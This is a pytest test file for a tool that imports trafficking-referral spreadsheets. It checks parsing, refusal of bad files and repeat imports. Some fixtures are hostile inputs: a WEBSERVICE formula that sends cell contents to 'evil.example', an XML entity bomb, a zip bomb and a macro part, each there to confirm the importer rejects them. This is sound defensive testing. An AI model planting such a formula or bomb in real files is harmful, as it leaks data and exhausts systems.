"""Spreadsheets in: what is read, what is refused, what a second run changes (nothing)."""

from __future__ import annotations

import io
import zipfile
from datetime import date

import pytest
from openpyxl import Workbook

from opennrm.kernel.actors import Actor, acting
from opennrm.kernel.errors import Broken
from opennrm.kernel.words import Purpose
from opennrm.people import selectors as people_reads
from opennrm.referrals import selectors as reads
from opennrm.referrals import services as referrals
from opennrm.referrals.models import ImportedRow, Referral
from opennrm.referrals.rules import AgeBand, Form, Lane, Sex
from opennrm.referrals.rules.columns import CannotRead, read_country, read_day, understand
from opennrm.referrals.rules.sheet import Unreadable, read_sheet

TODAY = date(2026, 11, 22)


def csv_of(*lines: str) -> bytes:
    return "\r\n".join(lines).encode("utf-8-sig")


def xlsx_of(*rows) -> bytes:
    book = Workbook()
    for row in rows:
        book.active.append(list(row))
    packed = io.BytesIO()
    book.save(packed)
    return packed.getvalue()


OWN = csv_of(
    "your_reference;noticed;surname;first_names;birth_year;sex;nationality;forms;reported_on;remark",
    "A1;No passport;Quillfeather;Zebedaiah;1998;m;Bulgaria;labour;12-03-2024;kept",
    "A2;Seen at the station;;;;vrouw;NG;sexual, begging;13-03-2024;",
)


@pytest.fixture
def police(police_officer):
    return police_officer.on(Purpose.REFERRAL)


# --- reading a file -----------------------------------------------------------------------------------


@pytest.mark.parametrize("encoding, delimiter", [("utf-8", ","), ("utf-8-sig", ";"), ("cp1252", ";"), ("utf-16", "\t")])
def test_tables_of_text_are_read_as_they_come(encoding, delimiter):
    content = f"noticed{delimiter}surname\nhé{delimiter}Müller\n".encode(encoding)
    (row,) = read_sheet(content).rows
    assert row.cells == {"noticed": "hé", "surname": "Müller"} and row.number == 2


def test_a_sheet_gives_dates_numbers_and_truths_as_somebody_would_type_them():
    content = xlsx_of(["noticed", "birth_date", "birth_year", "con_Consent"], ["x", date(2001, 3, 4), 2001.0, True])
    (row,) = read_sheet(content).rows
    assert row.cells == {"noticed": "x", "birth_date": "2001-03-04", "birth_year": "2001", "con_Consent": "yes"}


def test_a_formula_is_not_worked_out_and_is_told_at_its_cell():
    (row,) = read_sheet(xlsx_of(["noticed", "surname"], ["x", '=WEBSERVICE("http://evil.example/"&A2)'])).rows
    found = understand(row, TODAY)
    assert found.report is None and found.faults == [
        ("surname", "This cell holds a formula, and formulas are not worked out. Write the value.")
    ]


def _with_part(content: bytes, name: str, data: bytes) -> bytes:
    packed = io.BytesIO(content)
    with zipfile.ZipFile(packed, "a", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr(name, data)
    return packed.getvalue()


@pytest.mark.parametrize(
    "content, words",
    [
        (b"", "empty"),
        (b"  \n ", "empty"),
        (b"%PDF-1.7 ...", "PDF"),
        (b"\xd0\xcf\x11\xe0 old", "old or locked"),
        (b"PK\x03\x04 not really", "damaged"),
        (_with_part(xlsx_of(["noticed"], ["x"]), "xl/vbaProject.bin", b"macro"), "macros"),
        (_with_part(b"", "hello.txt", b"x"), "no spreadsheet"),
        (_with_part(xlsx_of(["noticed"], ["x"]), "bomb.xml", bytes(210 * 1024 * 1024)), "larger unpacked"),
        (b"noticed,surname\n\x00\x00,x\n", "no text"),
        (b"noticed\n", "nothing under it"),
        (b"noticed,Noticed\nx,y\n", "same heading"),
        (b'noticed\n"' + b"x" * 200_000 + b'"\n', "no table"),
        (b"noticed\n" + b"x\n" * 11, "too many rows"),
    ],
)
def test_what_cannot_be_read_says_what_to_do(content, words):
    with pytest.raises(Unreadable, match=words):
        read_sheet(content, most_rows=10)


def test_an_entity_of_xml_does_not_reach_outside_or_swell():
    bomb = b"""<?xml version="1.0"?><!DOCTYPE x [<!ENTITY a "aaaaaaaaaa"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;">]>
<worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><sheetData><row r="1"><c r="A1" t="inlineStr"><is><t>&b;</t></is></c></row></sheetData></worksheet>"""
    source = zipfile.ZipFile(io.BytesIO(xlsx_of(["noticed"], ["x"])))
    packed = io.BytesIO()
    with zipfile.ZipFile(packed, "w") as archive:
        for part in source.infolist():
            archive.writestr(part, bomb if part.filename == "xl/worksheets/sheet1.xml" else source.read(part))
    with pytest.raises(Unreadable, match="damaged"):
        read_sheet(packed.getvalue())


# --- what a row says ----------------------------------------------------------------------------------


def test_days_are_read_as_written_and_impossible_ones_are_not():
    assert read_day("4-3-2001") == read_day("2001-03-04") == date(2001, 3, 4)
    for text in ("31-11-2026", "4-3-01", "soon", "2026"):
        with pytest.raises(CannotRead):
            read_day(text)


@pytest.mark.parametrize(
    "text, code", [("bg", "BG"), ("Bulgarije", "BG"), ("BULGARIA", "BG"), ("staatloos", "stateless")]
)
def test_countries_are_known_by_code_and_by_name_in_two_languages(text, code):
    assert read_country(text) == code


def test_every_fault_of_a_row_is_told_at_its_column_and_nothing_of_the_row_is_taken():
    (row,) = read_sheet(csv_of("noticed,sex,birth_date,nationality", "x,perhaps,31-11-2001,Atlantis")).rows
    found = understand(row, TODAY)
    assert found.report is None
    assert [column for column, _sentence in found.faults] == ["sex", "birth_date", "nationality"]


def test_the_columns_of_htcds_are_read():
    (row,) = read_sheet(
        csv_of(
            "prs_FirstName,prs_SecondName,prs_Birthdate,prs_Gender,prs_Citizenship,vic_TypeOfExploitation,"
            "cas_IncomingReferralDate,cas_IncomingReferralDetails,cas_ReferringOrganisation,con_Consent",
            "Ada,Obi,2001-03-04,Feminine,NG,ForcedLabour;ForcedBegging,2024-01-02,Told us at the clinic,Clinic East,true",
        )
    ).rows
    found = understand(row, TODAY)
    report = found.report
    assert (report.lane, report.person.sex, report.person.nationality) == (Lane.NAMED, Sex.FEMALE, "NG")
    assert report.forms == (Form.LABOUR, Form.BEGGING) and report.agreed == "yes"
    assert found.reported_on == date(2024, 1, 2) and report.on_behalf_of == "Clinic East"


# --- writing ------------------------------------------------------------------------------------------


def test_looking_first_writes_nothing(police):
    outcome = referrals.import_rows(OWN, "2024.csv", by=police)
    assert (outcome.rows, outcome.good, outcome.written, outcome.unread) == (2, 2, (), ("remark",))
    with acting(police):
        assert Referral.objects.count() == ImportedRow.objects.count() == 0


def test_rows_become_referrals_with_their_source_row_and_year(police, registrar):
    outcome = referrals.import_rows(OWN, "2024.csv", dry_run=False, by=police)
    (_n, named), (_m, counted) = outcome.written
    found = reads.referral(named, viewer=registrar)
    assert people_reads.called([found.file], viewer=registrar) == {found.file: "Zebedaiah Quillfeather"}
    assert found.imported["remark"] == "kept" and found.referral.count_year == 2024
    other = reads.referral(counted, viewer=registrar).referral
    assert (other.lane, other.sex, other.forms) == (Lane.COUNTED, Sex.FEMALE, ["sexual", "begging"])


def test_a_second_run_of_the_same_file_changes_nothing(police):
    referrals.import_rows(OWN, "2024.csv", dry_run=False, by=police)
    again = referrals.import_rows(OWN, "renamed.csv", dry_run=False, by=police)
    assert (again.good, again.same, again.written) == (0, 2, ())
    with acting(police):
        assert Referral.objects.count() == 2


def test_a_longer_file_adds_only_what_is_new_and_a_changed_row_is_not_taken_silently(police):
    referrals.import_rows(OWN, "2024.csv", dry_run=False, by=police)
    longer = OWN.replace(b"No passport", b"No passport, no pay") + b"\r\nA3;new;;;;;;;;"
    outcome = referrals.import_rows(longer, "2024.csv", dry_run=False, by=police)
    assert (outcome.good, outcome.same) == (1, 2)
    assert "imported before with other content" in outcome.told[0].sentence


def test_two_rows_that_read_alike_are_two_people(police):
    content = csv_of("sex,age_band", "female,18-23", "female,18-23")
    assert len(referrals.import_rows(content, "x.csv", dry_run=False, by=police).written) == 2
    assert referrals.import_rows(content, "x.csv", dry_run=False, by=police).same == 2


def test_a_faulty_row_leaves_the_others_alone(police):
    content = csv_of("noticed,sex,region", "x,female,East", "y,perhaps,East", "z,male,Nowhere")
    outcome = referrals.import_rows(content, "x.csv", dry_run=False, by=police)
    assert (outcome.good, outcome.faulty, len(outcome.written)) == (1, 2, 1)
    assert [(one.row, one.column) for one in outcome.told] == [(3, "sex"), (4, "region")]


def test_a_number_that_stands_twice_in_a_file_is_told(police):
    outcome = referrals.import_rows(csv_of("your_reference,noticed", "1,a", "1,b"), "x.csv", by=police)
    assert outcome.good == 1 and outcome.told[0].sentence == "This number stands twice in this file."


def test_a_file_without_a_known_heading_and_an_unreadable_one_are_refused_at_the_field(police):
    for content in (b"a,b\n1,2\n", b"%PDF-"):
        with pytest.raises(Broken) as told:
            referrals.import_rows(content, "x", by=police)
        assert list(told.value.faults) == ["file"]


def test_the_program_itself_imports_for_a_country_that_starts(registrar):
    outcome = referrals.import_rows(OWN, "2024.csv", dry_run=False, by=Actor.for_job("import"))
    assert len(outcome.written) == 2
    assert reads.referral(outcome.written[0][1], viewer=registrar).referral.reporter_user_id is None


def test_one_organisation_learns_nothing_from_the_rows_of_another(police, shelter_lead):
    referrals.import_rows(OWN, "2024.csv", dry_run=False, by=police)
    assert referrals.import_rows(OWN, "2024.csv", by=shelter_lead.on(Purpose.REFERRAL)).same == 0


def test_a_hundred_rows_take_hardly_more_queries_than_ten(police, django_assert_max_num_queries):
    def rows(count, start):
        return csv_of("noticed,age_band", *(f"row {start + n},18-23" for n in range(count)))

    with django_assert_max_num_queries(90):
        referrals.import_rows(rows(10, 0), "a.csv", dry_run=False, by=police)
    with django_assert_max_num_queries(400):  # a grant and a line in the log for each
        referrals.import_rows(rows(100, 10), "b.csv", dry_run=False, by=police)


def test_age_bands_are_read_in_the_words_people_use():
    (row,) = read_sheet(csv_of("noticed,age_band", "x,minderjarig")).rows
    assert understand(row, TODAY).report.person.age_band == AgeBand.CHILD
